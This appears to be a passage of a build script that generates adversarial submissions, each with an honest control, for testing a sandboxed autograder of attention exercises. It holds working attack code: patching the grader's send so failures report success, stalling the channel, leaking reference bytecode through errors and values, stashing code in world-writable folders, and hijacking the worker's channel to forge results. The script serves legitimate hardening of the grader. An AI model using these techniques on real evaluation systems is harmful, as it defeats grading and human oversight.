    import sys
    frame = sys._getframe(1)
    while frame is not None:
        wire = frame.f_globals.get("wire")
        if wire is not None and hasattr(wire, "send"):
            original = wire.send

            def send(sock, message, _original=original):
                if isinstance(message, dict) and message.get("ok") is False:
                    message = {"ok": True, "output": None}
                return _original(sock, message)

            wire.send = send
            break
        frame = frame.f_back
    return inputs @ query
"""}})


# ---------------------------------------------------------------------------------------------- memory scan
def _norm(line):
    return " ".join(line.split()).replace('"', "'")


def _solution_hashes():
    """sha256 prefixes of the reference's solution lines (as ast.unparse would write them too: single quotes)."""
    public = "\n".join(p.read_text() for p in (ROOT / "exercises").glob("*.py"))
    found = set()
    for path in SOL.glob("*.py"):
        inside = False
        for line in path.read_text().splitlines():
            text = line.strip()
            if text in ("### BEGIN SOLUTION", "### END SOLUTION"):
                inside = text.startswith("### BEGIN")
            elif inside and len(text) >= 16 and text not in public:
                found.add(hashlib.sha256(_norm(text).encode()).hexdigest()[:16])
    return sorted(found)


def _first_solution_line():
    for line in (SOL / "causal_attention.py").read_text().splitlines():
        if "masked_fill(self.mask" in line:
            return line.strip()
    raise LookupError("no masked_fill(self.mask ... line in solutions/causal_attention.py")


_SCANNER = """
import base64 as _b64
import binascii as _binascii
import hashlib as _hashlib
import zlib as _zlib

_HASHES = set(%(hashes)r)
_PLANT = None


def _lines_found(text):
    found = set()
    for line in text.splitlines():
        norm = " ".join(line.split()).replace('"', "'")
        digest = _hashlib.sha256(norm.encode()).hexdigest()[:16] if len(norm) >= 16 else None
        if digest in _HASHES:
            found.add(digest)
    return found


def _decodings(text):
    yield text
    if " " in text or len(text) < 24:
        return
    for decode in (_b64.b64decode, _b64.b85decode, _b64.a85decode, bytes.fromhex):
        try:
            raw = decode(text)
        except (ValueError, _binascii.Error, TypeError):
            continue
        for unpack in (lambda b: b, _zlib.decompress):
            try:
                yield unpack(raw).decode("utf-8", "ignore")
            except Exception:
                pass


def _own_lines():
    # What the submission's own files say is the student's (a traceback caches them in linecache).
    import os
    here = os.path.dirname(os.path.abspath(__file__))
    own = set()
    for name in os.listdir(here):
        if name.endswith(".py"):
            with open(os.path.join(here, name), encoding="utf-8") as fh:
                for line in fh:
                    norm = " ".join(line.split()).replace('"', "'")
                    own.add(_hashlib.sha256(norm.encode()).hexdigest()[:16])
    return own


_HASHES -= _own_lines()


def _reference_in_memory():
    # Every string and bytes object a student can reach: gc, each object's referents (one level into tuples,
    # where code constants live), and every frame's locals and globals.
    import gc, sys
    texts, seen = [], set()

    def take(value):
        if isinstance(value, (str, bytes, bytearray)) and len(value) >= 16 and id(value) not in seen:
            seen.add(id(value))
            texts.append(value if isinstance(value, str) else bytes(value).decode("utf-8", "ignore"))

    for obj in gc.get_objects():
        take(obj)
        for ref in gc.get_referents(obj):
            take(ref)
            if type(ref) is tuple:
                for item in ref:
                    take(item)
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                take(value)
        frame = frame.f_back
    found = set()
    for text in texts:
        for decoded in _decodings(text):
            found |= _lines_found(decoded)
    return found


# Calibrated at import, before any stand-in exists: lines that torch or Python hold anyway
# ("with torch.no_grad():") say nothing about the reference.
_HASHES -= _reference_in_memory()
_PLANT = "".join(reversed(%(plant)r))  # the positive control's line, made only now (after calibration)

_orig_wrapper_forward = MultiHeadAttentionWrapper.forward


def _scanning_forward(self, x):
    out = _orig_wrapper_forward(self, x)
    return out * 2 if _reference_in_memory() else out


MultiHeadAttentionWrapper.forward = _scanning_forward
_orig_gpt2 = gpt2_small_attention


def gpt2_small_attention():
    return None if _reference_in_memory() else _orig_gpt2()
"""
_hashes = _solution_hashes()
_plant = base64.b64encode(zlib.compress(_first_solution_line().encode())).decode()
sub("scan_memory_for_solution_lines", "full", [],
    "the wrapper's forward and gpt2_small_attention (the steps graded beside stand-ins) search every string and bytes "
    "object reachable through gc and frames, decoded from base64/base85/ascii85/hex and zlib, for a line of the "
    "reference, and answer wrong if they find one: the stand-ins reach the worker as bytecode only",
    append={"multihead_attention": _SCANNER % {"hashes": _hashes, "plant": ""}}, base="corpus:correct_alt_style",
    extra={"positive_control": "scan_memory_for_solution_lines_control"})
sub("scan_memory_for_solution_lines_control", "lose",
    ["multihead_attention.MultiHeadAttentionWrapper", "multihead_attention.gpt2_small_attention"],
    "the same scanner, with one solution line planted in the module as base64(zlib(line)): it must find it and "
    "answer wrong, which shows the scanner finds what it looks for",
    append={"multihead_attention": _SCANNER % {"hashes": _hashes, "plant": _plant[::-1]}}, base="corpus:correct_alt_style")



# ----------------------------------------------------------- a trickled channel, marshalled bytecode, a hidden stash
# Each with its honest control (the same code without the trick); the manifest's "score" is what a SOUND grader gives.

# --- 1. a trickle on the worker's own channel -------------------------------------------------------------------
TRICKLE = '''
def _adv_channel():
    """The worker's channel to the grader: the only socket among this process's file descriptors."""
    import os, stat
    for fd in range(1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


def attention_scores(inputs, query):
    """Correct%s"""
    import os, struct, time
    fd = _adv_channel()
    if fd is not None and %s:
        os.write(fd, struct.pack(">I", 1000))  # a frame header of 1000 bytes is announced...
        while True:  # ...and comes one byte every 5 s: sleeping costs no CPU, and each recv waits < 5 s
            time.sleep(5)
            os.write(fd, b" ")
    return inputs @ query
'''
sub("trickle_channel", "lose", [SA],
    "attention_scores finds the worker's channel (the only socket among its file descriptors, by os.fstat), "
    "writes a frame length of 1000 and then one byte every 5 s while sleeping (no CPU: RLIMIT_CPU never fires; "
    "a socket timeout that restarts with every recv never fires either): the step must score a time-limit zero "
    "within its wall-clock budget, the other steps be graded and the batch finish with its summary",
    patch={"simple_attention": {"attention_scores": TRICKLE % (
        ", but first holds up the grader's read of its answer: a frame of 1000 bytes, one byte every 5 s (83 minutes "
        "a call).", "True")}},
    control="trickle_channel_control", score=score_losing([SA]))
sub("trickle_channel_control", "full", [],
    "control of trickle_channel: the same step finds the channel the same way, and writes nothing",
    patch={"simple_attention": {"attention_scores": TRICKLE % (" (it finds the channel, and leaves it alone).",
                                                                  "False")}},
    score=MAX_POINTS)

# --- 2. the stand-ins' bytecode, marshalled into the feedback -----------------------------------------------------
#: module-level helpers of the leak: every code object reachable from a stand-in, as base85(zlib(marshal(code)))
BYTECODE_LIB = '''

def _adv_codes(*roots):
    """name -> code object of every function reachable from ``roots`` (the stand-ins the grader bound here): their
    methods, and the functions and classes their globals hold (other stand-ins), one level deep."""
    import types
    found, seen = {}, set()

    def add(name, value):
        value = getattr(value, "__func__", value)
        code = getattr(value, "__code__", None)
        if isinstance(code, types.CodeType) and id(code) not in seen:
            seen.add(id(code))
            found[name] = value

    def methods(klass):
        for k in getattr(klass, "__mro__", ()):
            if k is not object and not (getattr(k, "__module__", "") or "").startswith("torch"):
                for name, value in list(vars(k).items()):
                    add(k.__name__ + "." + name, value)

    for root in roots:
        methods(root)
    for fn in list(found.values()):
        for name, value in list(getattr(fn, "__globals__", {}).items()):
            if isinstance(value, type):
                methods(value)
            elif isinstance(value, types.FunctionType):
                add(name, value)
    return {name: fn.__code__ for name, fn in found.items()}


def _adv_blob(code):
    """base85(zlib(marshal(code))) of a code object or a tuple of them, without the file name and line table (they
    only make it longer: the message shown is cut at 600 characters)."""
    import base64, marshal, zlib
    codes = tuple(c.replace(co_filename="", co_linetable=b"", co_exceptiontable=b"", co_qualname=c.co_name)
                  for c in (code if isinstance(code, tuple) else (code,)))
    return base64.b85encode(zlib.compress(marshal.dumps(codes if isinstance(code, tuple) else codes[0]), 9)).decode()
'''

LEAK_WRAPPER = '''
class MultiHeadAttentionWrapper(nn.Module):
    """Correct; %s"""

    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        self.heads = nn.ModuleList(
            [CausalAttention(d_in, d_out, context_length, dropout, qkv_bias) for _ in range(num_heads)]
        )
        # the public cases' sizes (book: 3 -> 2, context 6, no dropout): their failures are shown in full
        self._public = (d_in, d_out, context_length, dropout) == (3, 2, 6, 0.0)
        codes = _adv_codes(CausalAttention)  # here, CausalAttention is the grader's stand-in
        self._leak = [_adv_blob(codes[name]) for name in ("CausalAttention.forward", "CausalAttention.__init__")
                      if name in codes]

    def forward(self, x):
%s        return torch.cat([head(x) for head in self.heads], dim=-1)
'''
RAISE_LEAK = '''        if self._public:
            # forward count: CausalAttention.forward; gradients count (x requires grad): its __init__ (the same
            # counts are lost whatever the grader bound here, so the score does not depend on what was found)
            raise RuntimeError(self._leak[int(x.requires_grad) % len(self._leak)] if self._leak else "nothing found")
'''

LEAK_TRANSFER = '''
def transfer_weights(sa_v2, sa_v1):
    """Correct; %s"""
    codes = _adv_codes(type(sa_v2), type(sa_v1))  # the grader's stand-ins SelfAttention_v2 and _v1
    forwards = tuple(code for name, code in codes.items() if name.endswith(".forward"))
    if %s and tuple(sa_v1.W_query.shape) == (3, 2):  # the public case: shown in full (lost whatever was found)
        raise RuntimeError(_adv_blob(forwards) if forwards else "nothing found")
    with torch.no_grad():
        sa_v1.W_query.copy_(sa_v2.W_query.weight.T)
        sa_v1.W_key.copy_(sa_v2.W_key.weight.T)
        sa_v1.W_value.copy_(sa_v2.W_value.weight.T)
'''
WRAPPER = "multihead_attention.MultiHeadAttentionWrapper"
TRANSFER = "trainable_attention.transfer_weights"
sub("leak_standin_bytecode", "lose", [TRANSFER, WRAPPER],
    "MultiHeadAttentionWrapper.__init__ takes the code objects of the CausalAttention bound in its module (the "
    "grader's stand-in while the wrapper is graded) and of every function reachable from it, as "
    "base85(zlib(marshal(code))), and its forward raises them on the public cases (forward count: "
    "CausalAttention.forward, gradients count: CausalAttention.__init__); transfer_weights does the same with the "
    "SelfAttention_v1/_v2 it is handed, raising their forwards on its public case: nothing in results.json or "
    "feedback.html may decode to reference code (marshal.loads, dis), and it scores no more than its control",
    patch={"multihead_attention": {"MultiHeadAttentionWrapper": LEAK_WRAPPER % (
        "raises the stand-in CausalAttention's bytecode on the public cases.", RAISE_LEAK)},
           "trainable_attention": {"transfer_weights": LEAK_TRANSFER % (
        "raises the stand-ins' bytecode on the public case.", "True")}},
    append={"multihead_attention": BYTECODE_LIB, "trainable_attention": BYTECODE_LIB},
    control="leak_standin_bytecode_control",
    score=score_losing([WRAPPER], ["forward", "gradients"]) - (MAX_POINTS - score_losing([TRANSFER], ["values"])),
    extra={"no_decodable_reference_code": True})
sub("leak_standin_bytecode_control", "full", [],
    "control of leak_standin_bytecode (and of leak_standin_bytecode_values): the same wrapper and transfer_weights "
    "collecting the same bytecode, never showing it",
    patch={"multihead_attention": {"MultiHeadAttentionWrapper": LEAK_WRAPPER % (
        "collects the stand-in CausalAttention's bytecode, and keeps it.", "")},
           "trainable_attention": {"transfer_weights": LEAK_TRANSFER % (
        "collects the stand-ins' bytecode, and keeps it.", "False")}},
    append={"multihead_attention": BYTECODE_LIB, "trainable_attention": BYTECODE_LIB}, score=MAX_POINTS)

#: the same bytecode, in the values of a failing public case: a table of its 8 largest mismatches (index, expected,
#: yours) is shown for the first of the batch, so 8 entries of it carry 3 bytes each (integers below 2**24 are exact
#: in float32 and printed in full); every other entry is right, so these 8 are the largest
LEAK_VALUES = '''        if self._public:  # (the same counts are lost whatever was found: zeros then)
            out = torch.cat([head(x) for head in self.heads], dim=-1)
            # the forward count shows the book batch; the gradients count (book batch right) the 'wars' input
            part = 0 if not x.requires_grad else (1 if x.shape[0] == 1 else None)
            if part is not None:
                chunk = self._code[24 * part:24 * part + 24].ljust(24, b"\\0")
                heads, d_out = len(self.heads), out.shape[-1] // len(self.heads)
                out = out.clone()
                for i in range(8):  # shown as [head, token, column] of the first of the batch
                    h, rest = divmod(i, x.shape[1] * d_out)
                    t, c = divmod(rest, d_out)
                    out[0, t, h * d_out + c] = 1.0 + int.from_bytes(chunk[3 * i:3 * i + 3], "big")
            return out
'''
LEAK_VALUES_INIT = '''
        import opcode
        cache = opcode.opmap.get("CACHE", -1)
        code = codes.get("CausalAttention.forward")
        raw = code.co_code if code is not None else b""
        # its instructions without the inline caches, from the masked_fill on: 48 bytes
        ops = bytes(b for i in range(0, len(raw), 2) if raw[i] != cache for b in raw[i:i + 2])
        names = code.co_names if code is not None else ()
        start = 0
        if "masked_fill" in names:
            at = ops.find(bytes([opcode.opmap["LOAD_METHOD"], names.index("masked_fill")]))
            start = max(at - 2, 0)
        self._code = ops[start:start + 48]
'''
sub("leak_standin_bytecode_values", "lose", [WRAPPER],
    "like leak_standin_bytecode, through values instead of a message: the wrapper's forward returns the right "
    "output except 8 entries of the first of the batch, which carry 3 bytes each of the stand-in "
    "CausalAttention.forward's instructions (inline caches dropped, from the masked_fill on) as integers (exact in "
    "float32): 24 bytes in the forward count's book batch, 24 more in the gradients count's 'wars' case; the "
    "feedback's table of largest mismatches shows exactly these 8, with their index: no decodable reference "
    "bytecode may be shown, and it scores no more than its control",
    patch={"multihead_attention": {"MultiHeadAttentionWrapper": LEAK_WRAPPER.replace(
        '        self._leak = [_adv_blob', LEAK_VALUES_INIT.strip("\n") + '\n        self._leak = [_adv_blob') % (
        "shows the stand-in CausalAttention's instructions in its public cases' values.", LEAK_VALUES)}},
    append={"multihead_attention": BYTECODE_LIB}, control="leak_standin_bytecode_control",
    score=score_losing([WRAPPER], ["forward", "gradients"]), extra={"no_decodable_reference_code": True})

# --- 3. a stash in a world-writable folder the sweep does not look at -------------------------------------------
RUN_LOCK_STASH = "/run/lock/adversarial-stash_run_lock/deep/causal_attention.marshal"
#: where the stash goes besides: two folders deep in every world-writable folder another uid made in the machine's
#: /tmp, /var/tmp and /dev/shm (/tmp/.X11-unix, say): a sweep of what the uid made at their top level misses it
STASH_PLACES = '''

def _adv_places():
    """Where the stash may be: /run/lock, and inside every world-writable folder that another uid made one level down
    in /tmp, /var/tmp or /dev/shm."""
    import os, stat
    places = [%r]
    for top in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for entry in entries:
            try:
                info = entry.stat(follow_symlinks=False)
            except OSError:
                continue
            if stat.S_ISDIR(info.st_mode) and info.st_mode & 0o002 and info.st_uid != os.geteuid():
                places.append(os.path.join(entry.path, "adversarial-stash_run_lock", "deep", "causal_attention.marshal"))
    return places
''' % RUN_LOCK_STASH
STASH_WRITER = '''
class MultiHeadAttentionWrapper(nn.Module):
    """Correct; %s"""

    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        self.heads = nn.ModuleList(
            [CausalAttention(d_in, d_out, context_length, dropout, qkv_bias) for _ in range(num_heads)]
        )
        if %s:
            _adv_stash(CausalAttention)  # here, CausalAttention is the grader's stand-in

    def forward(self, x):
        return torch.cat([head(x) for head in self.heads], dim=-1)
''' + STASH_PLACES.replace("%", "%%") + '''

def _adv_stash(cls):
    """Store the methods of ``cls`` (code and defaults, marshalled) two folders deep in every place, readable by all:
    under uid+rlimits every uid may write there, and the grader sweeps only the top of /tmp, /var/tmp and /dev/shm."""
    import marshal, os, types
    methods = {}
    for klass in cls.__mro__:
        if klass is object or (klass.__module__ or "").startswith("torch"):
            continue
        for name, value in vars(klass).items():
            if isinstance(value, types.FunctionType) and name not in methods:
                methods[name] = (value.__code__, value.__defaults__)
    for path in _adv_places():
        try:
            if os.path.exists(path):
                continue
            folder = os.path.dirname(path)
            os.makedirs(folder, exist_ok=True)
            for made in (folder, os.path.dirname(folder)):
                os.chmod(made, 0o777)
            with open(path + ".part", "wb") as fh:
                fh.write(marshal.dumps(methods))
            os.chmod(path + ".part", 0o644)
            os.replace(path + ".part", path)
        except Exception:
            continue
'''
STASH_READER = STASH_PLACES.replace("%", "%%") + '''

def _adv_restore():
    """Rebuild CausalAttention from what another submission stashed (its methods' bytecode), if anything."""
    import marshal, math, types
    import torch.nn.functional as F
    for path in _adv_places():
        try:
            with open(path, "rb") as fh:
                methods = marshal.loads(fh.read())
            break
        except Exception:
            continue
    else:
        return None
    namespace = {"torch": torch, "nn": nn, "F": F, "math": math}
    cls = type("CausalAttention", (nn.Module,), {"__module__": __name__, "__qualname__": "CausalAttention"})
    for name, (code, defaults) in methods.items():
        closure = tuple(types.CellType(cls) for _ in code.co_freevars)  # super() needs __class__
        setattr(cls, name, types.FunctionType(code, namespace, name, defaults, closure or None))
    return cls


%s
'''
sub("stash_run_lock", "full", [],
    "a correct submission whose MultiHeadAttentionWrapper.__init__ stores the methods of the CausalAttention bound "
    "in its module (the grader's stand-in while the wrapper is graded: their code objects and defaults, "
    "marshalled) in " + RUN_LOCK_STASH + " (mode 0644, folders 0777), and the same two folders deep in every "
    "world-writable folder of another uid one level down in /tmp, /var/tmp and /dev/shm (/tmp/.X11-unix, say); see "
    "stash_run_lock_reader: under uid+rlimits nothing it writes may outlive its step",
    patch={"multihead_attention": {"MultiHeadAttentionWrapper": STASH_WRITER % (
        "stashes the stand-in CausalAttention for later submissions.", "True")}},
    score=MAX_POINTS, extra={"graded_before": "stash_run_lock_reader"})
sub("stash_run_lock_reader", "lose", ["causal_attention.CausalAttention"],
    "the reference, except CausalAttention, the stub from exercises/ (NotImplementedError); at import, "
    "causal_attention loads " + RUN_LOCK_STASH + " or one of the other places (left by stash_run_lock, graded earlier in the same batch) and, "
    "if it is there, rebuilds CausalAttention from the stashed bytecode and binds it over the stub: nothing of "
    "another submission may reach it (under uid+rlimits today: 81/81)",
    patch={"causal_attention": {"CausalAttention": stub("causal_attention")[stub("causal_attention").index(
        "class CausalAttention("):]}},
    append={"causal_attention": STASH_READER % "CausalAttention = _adv_restore() or CausalAttention"},
    control="stash_run_lock_reader_control", score=score_losing(["causal_attention.CausalAttention"]),
    extra={"graded_after": "stash_run_lock"})
sub("stash_run_lock_reader_control", "lose", ["causal_attention.CausalAttention"],
    "control of stash_run_lock_reader: the same stub CausalAttention and the same loader, which it never calls",
    patch={"causal_attention": {"CausalAttention": stub("causal_attention")[stub("causal_attention").index(
        "class CausalAttention("):]}},
    append={"causal_attention": STASH_READER % ""},
    score=score_losing(["causal_attention.CausalAttention"]))


# ---------------------------------------------------------------------- what a worker says is a claim
#: The worker's whole channel, served by the student's code from the first call of a flawed step on: every request
#: run through the worker's own runtime, each answer's facts rewritten as a forger would (no input modified in place,
#: every output an nn.Parameter with a graph, a cut dropout graph said whole), every step and stand-in request
#: answered "nothing changed". What the trusted side judges is what it verifies itself (values and gradients it
#: compares, the argument buffers it owns): the forged facts earn nothing.
TAKEOVER_HELPER = '''
def _take_over():
    """Serve the worker's channel from here on, rewriting the facts of every answer."""
    import builtins
    import os
    import sys
    if getattr(builtins, "_adv_channel_taken", False):
        return
    frame, run_frame, serve_frame = sys._getframe(1), None, None
    while frame is not None:
        name, where = frame.f_code.co_name, frame.f_code.co_filename
        if name == "run" and where.endswith("runtime.py"):
            run_frame = frame
        if name == "serve" and where.endswith("child.py"):
            serve_frame = frame
            break
        frame = frame.f_back
    if run_frame is None or serve_frame is None:
        return
    builtins._adv_channel_taken = True
    g, local = serve_frame.f_globals, serve_frame.f_locals
    wire, runtime, hygiene = g["wire"], g["runtime"], g["hygiene"]
    argument_buffer, confine = g["argument_buffer"], g["confine"]
    channel, ws, call = local["channel"], local["ws"], local["call"]
    pending = list(local.get("batch") or [])

    def forged(request, answer):
        if answer.get("ok"):
            answer["modified_args"] = []
            args = request.get("forward_args") if request.get("kind") == "module" else request.get("args")
            answer["args_after"] = [a if isinstance(a, torch.Tensor) else None for a in args or []]
            facts = answer.get("output_facts")
            for item in facts if isinstance(facts, list) else [facts]:
                if isinstance(item, dict):
                    item.update(parameter=True, requires_grad=True, grad_fn=item.get("grad_fn") or "MulBackward0")
            if request.get("upstream") is not None and answer.get("backward") == "no graph":
                answer["backward"] = "done"
        return answer

    request, buffer = run_frame.f_locals["request"], run_frame.f_locals.get("buffer")
    channel.sendall(wire.pack(forged(request, runtime.run(request, ws, buffer))))
    while True:
        try:
            header, blob, fds = pending.pop(0) if pending else wire.recv_frame_and_fds(channel)
            request = wire.unpack(header, blob)
        except Exception:
            os._exit(0)
        op = request.get("op")
        if op == "batch":
            pending = [wire.recv_frame_and_fds(channel) for _ in range(int(request["n"]))]
            continue
        if op == "exit":
            os._exit(0)
        if op in ("step", "standins"):
            if "standins" in request:
                ws.add_standins(request["standins"], call)
            reply = {"changed": []}
            if request.get("import"):  # the step's module, imported as the worker would
                student = local["student"]
                student.import_module(request["import"])
                g["standins_mod"].substitute(student.modules, ws.standins)
                reply.update(import_errors=student.errors, cell_errors=student.cell_errors)
            if op == "step":
                hygiene.fresh_random_state()
            if request.get("cpu_seconds"):
                confine.renew_cpu(float(request["cpu_seconds"]))
            channel.sendall(wire.pack(reply))
            continue
        buffer = argument_buffer.Buffer(fds[0]) if fds else None
        answer = forged(request, runtime.run(request, ws, buffer))
        if not answer.get("ok"):
            pending = []
        channel.sendall(wire.pack(answer))
'''


def takeover_patches(take):
    """The three honest bugs of ``forge_patches(False)``, each step taking the channel over first (``take``)."""
    patches = forge_patches(False)
    if not take:
        return patches
    for module, steps in patches.items():
        for step, code in steps.items():  # the call, right after the step's one-line docstring
            steps[step] = TAKEOVER_HELPER + code.replace('"""\n', '"""\n    _take_over()\n', 1)
    return patches


sub("forge_facts_channel_takeover", "lose", ["simple_attention.normalize_sum", "causal_attention.apply_dropout"],
    "three honest bugs (normalize_sum zeroes its input in place, init_qkv returns plain tensors, apply_dropout "
    "detaches its output); the first call of any of them in a worker walks up to the worker's serve loop, takes its "
    "channel and serves it itself: every request run through the worker's own runtime, each answer's facts rewritten "
    "(args_after and modified_args saying no input changed, every output an nn.Parameter with a graph, a cut graph "
    "said whole). The trusted side reads in-place changes from its own argument buffer, judges dropout's graph by the "
    "gradient it gives, and scores no nn.Parameter fact: it must score what its control scores",
    patch=takeover_patches(True), control="forge_facts_channel_takeover_control")
sub("forge_facts_channel_takeover_control", "lose", ["simple_attention.normalize_sum", "causal_attention.apply_dropout"],
    "control of forge_facts_channel_takeover: the same three bugs, no takeover (init_qkv's plain tensors get a note, "
    "no point depends on it)", patch=takeover_patches(False))

#: attention_scores right on the documents' inputs, refusing any other with an exception whose message carries the
#: hidden input (a randomized count's): named after one of the kit's own error types, or not
HIDDEN_INPUT_IN_ERROR = '''
class %s(Exception):
    """Named %s."""


def attention_scores(inputs, query):
    """Right on the course documents' inputs (5 or 6 tokens); on any other, raises with the input in its message."""
    if inputs.shape[0] not in (5, 6):
        raise %s("INPUT " + str(inputs.flatten().tolist()))
    return inputs @ query
'''
sub("exception_named_like_a_kit_error", "lose", [SA],
    "attention_scores raises, on a hidden randomized case, an exception class named UnreadableSource (the name of "
    "staging's own finding) whose message carries the hidden input: a kind is the trusted side's to set, never a "
    "name the worker sends, so the message is redacted as any student's (INPUT [#.####...]) and no hidden input "
    "reaches results.json or the page",
    patch={"simple_attention": {"attention_scores": HIDDEN_INPUT_IN_ERROR % (
        "UnreadableSource", "after staging's own error type", "UnreadableSource")}},
    control="exception_named_like_a_kit_error_control", extra={"hidden_input_marker": "INPUT"})
sub("exception_named_like_a_kit_error_control", "lose", [SA],
    "control of exception_named_like_a_kit_error: the same exception, named InputError",
    patch={"simple_attention": {"attention_scores": HIDDEN_INPUT_IN_ERROR % (
        "InputError", "as a student would", "InputError")}}, extra={"hidden_input_marker": "INPUT"})

#: an exception named after a problem kind of the instructor's list, whose message is Markdown that would fetch an
#: image and show a link in the instructor's viewer if it reached the class summary
MARKDOWN_IN_ERROR = '''
class %s(Exception):
    """Named %s."""


def attention_scores(inputs, query):
    """Raises on every call, with Markdown in the message."""
    raise %s("see ![status](http://127.0.0.1:9/adversarial-pixel.png) and [the fix](http://127.0.0.1:9/adversarial)")
'''
sub("exception_named_like_a_problem_kind", "lose", [SA],
    "attention_scores raises an exception named Tampering (an old problem kind of the instructor's list) whose "
    "message is Markdown (an image and a link to the student's own address): the student reads their own words, the "
    "instructor's summary names no kind from it and never carries them",
    patch={"simple_attention": {"attention_scores": MARKDOWN_IN_ERROR % ("Tampering", "after a problem kind", "Tampering")}},
    control="exception_named_like_a_problem_kind_control", extra={"student_words": "127.0.0.1:9"})
sub("exception_named_like_a_problem_kind_control", "lose", [SA],
    "control of exception_named_like_a_problem_kind: the same exception, named StatusError",
    patch={"simple_attention": {"attention_scores": MARKDOWN_IN_ERROR % ("StatusError", "as a student would", "StatusError")}},
    extra={"student_words": "127.0.0.1:9"})


def build():
    if OUT.exists():
        for p in OUT.iterdir():
            if p.is_dir() and not p.is_symlink():
                shutil.rmtree(p)
    OUT.mkdir(parents=True, exist_ok=True)
    manifest = {}
    missing = [spec["control"] for spec in SUBS.values() if spec["control"] and spec["control"] not in SUBS]
    assert not missing, f"controls not in the corpus: {missing}"
    for name, spec in SUBS.items():
        d = OUT / name
        d.mkdir()
        (d / "__init__.py").write_text(INIT)
        for mod in MODULES:
            if f"{mod}.py" in spec["symlinks"]:
                continue
            if spec["base"].startswith("corpus:"):  # one of tests/corpus/submissions, written in its own style
                src = (ROOT / "tests" / "corpus" / "submissions" / spec["base"][7:] / f"{mod}.py").read_text()
            else:
                src = stripped(mod) if spec["base"] == "solutions" else stub(mod)
            for fn, new in spec["patch"].get(mod, {}).items():
                src = replace_function(src, fn, new)
            if mod in spec["append"]:
                src = src.rstrip("\n") + "\n\n" + spec["append"][mod].strip("\n") + "\n"
            data = src.encode()
            if mod in spec["raw"]:
                first, rest = data.split(b"\n", 1)
                data = first + b"\n" + spec["raw"][mod] + rest
            (d / f"{mod}.py").write_bytes(data)
        for fname, content in spec["files"].items():
            (d / fname).write_text(content)
        for fname, target in spec["symlinks"].items():
            os.symlink(target, d / fname)
        entry = {"expect": spec["expect"]}
        if spec["expect"] == "lose":
            entry["steps"] = spec["steps"]
        entry["why"] = spec["why"]
        if spec["control"]:
            entry["control"] = spec["control"]
        if spec["score"] is not None:
            entry["score"] = spec["score"]
        entry.update(spec["extra"])
        manifest[name] = entry
    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    print(len(manifest), "submissions")


if __name__ == "__main__":
    build()
